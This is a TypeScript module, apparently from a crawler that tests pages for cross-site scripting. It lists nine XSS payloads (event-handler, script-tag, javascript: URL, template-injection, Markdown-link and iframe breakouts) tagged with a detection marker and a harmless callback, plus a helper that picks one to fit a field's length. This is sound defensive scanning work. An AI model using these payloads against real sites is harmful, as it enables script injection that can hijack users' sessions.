/** Attribute by which an injected element is found on a page. */
export const MARK = "data-xss";
/** Function that a script of a payload calls; the crawl defines it. */
export const RAN = "xssRan";
/** Text by which a page that shows a payload as text is recognized. */
export const SIGN = "xs5";

/** Texts that break out of an element, an attribute, a script, a link, a template or Markdown. */
export const payloads: readonly string[] = [
  `${SIGN}<img src=x onerror=${RAN}() ${MARK}>`,
  `${SIGN}" onfocus=${RAN}() autofocus ${MARK} x="`,
  `${SIGN}' onmouseover=${RAN}() ${MARK} x='`,
  `${SIGN}</script><script ${MARK}>${RAN}()</script>`,
  `${SIGN}<svg ${MARK} onload=${RAN}()>`,
  `javascript:${RAN}('${SIGN}')`,
  `${SIGN}{{constructor.constructor('${RAN}()')()}}`,
  `[${SIGN}](javascript:${RAN}())`,
  `${SIGN}--><iframe srcdoc="<b ${MARK}>" ${MARK}>`,
];

/** For fields too short for the others. */
const shortest = `<i ${MARK}>`;

/** The payload of this number, or the shortest one if it is too long; null if none fits. */
export function payloadWithin(number: number, maxLength: number): string | null {
  const payload = payloads[number % payloads.length] ?? shortest;
  if (payload.length <= maxLength) return payload;
  return shortest.length <= maxLength ? shortest : null;
}
